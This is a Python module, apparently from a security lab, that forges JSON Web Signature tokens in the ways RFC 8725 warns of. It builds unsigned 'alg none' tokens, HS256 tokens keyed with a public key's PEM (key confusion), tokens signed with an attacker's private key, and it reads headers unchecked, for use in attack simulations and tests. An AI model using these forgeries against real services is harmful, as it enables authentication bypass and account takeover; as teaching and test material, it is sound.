"""JWS built the ways RFC 8725 §2.1 says verifiers get fooled, and a header read unchecked.

alg none; HS256 keyed with a published public key's PEM (key confusion); any private JWK
the attacker holds. The token attacks (attacker.forge) and the dashboard's tests use them.
"""

from __future__ import annotations

import hashlib
import hmac
import json
from typing import Any

import jwt

from lab.jose import b64
from lab.jose.jwk import public_pem as public_pem  # what a confused verifier keys HMAC with


def _segment(value: dict[str, Any]) -> str:
    return b64.encode(json.dumps(value, separators=(",", ":")).encode())


def sign_none(header: dict[str, Any], claims: dict[str, Any]) -> str:
    """An unsigned JWS (RFC 7515 Appendix A.5 style): alg none, empty signature."""
    return f"{_segment({**header, 'alg': 'none'})}.{_segment(claims)}."


def sign_hs256(header: dict[str, Any], claims: dict[str, Any], secret: bytes) -> str:
    """HS256 by hand (PyJWT refuses a PEM as an HMAC secret, which is the point)."""
    signing_input = f"{_segment({**header, 'alg': 'HS256'})}.{_segment(claims)}"
    mac = hmac.new(secret, signing_input.encode(), hashlib.sha256).digest()
    return f"{signing_input}.{b64.encode(mac)}"


def sign_with(private_jwk: dict[str, Any], header: dict[str, Any], claims: dict[str, Any],
              alg: str = "ES256") -> str:
    key = jwt.PyJWK(private_jwk, algorithm=alg).key
    return jwt.encode(claims, key, algorithm=alg, headers=header)


def unverified_header(token: str) -> dict[str, Any]:
    return b64.json_segment(token, 0)
